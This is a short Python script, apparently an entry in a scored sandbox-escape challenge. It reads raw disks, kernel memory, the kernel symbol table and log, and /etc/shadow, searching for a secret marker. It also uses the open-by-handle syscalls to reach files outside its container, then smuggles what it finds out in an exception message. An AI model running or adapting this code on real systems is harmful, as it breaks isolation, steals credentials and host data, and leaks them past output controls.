"""Reads disks, kernel memory, the kernel's log and its settings."""

# answers: two
# earns: 20

# %% first
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        return f"{type(error).__name__}"
def read(path, size=200_000):
    return attempt(lambda: open(path, "rb").read(size))
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
got = [read(p, 10_000_000) for p in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/kmsg", "/proc/kallsyms", "/etc/shadow", "/sys/kernel/debug", "/proc/sys/kernel/core_pattern")]
got = [g for g in got if isinstance(g, bytes) and b"the-secret-" in g]
handle, mount = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(200)), ctypes.c_int()
if call(303, -100, ctypes.c_char_p(b"@SECRET@"), handle, ctypes.byref(mount), 0) == 0:
    got.append(read(f"/proc/self/fd/{call(304, -100, handle, 0)}"))
print(got)
raise ValueError(str(got)[:1_900])
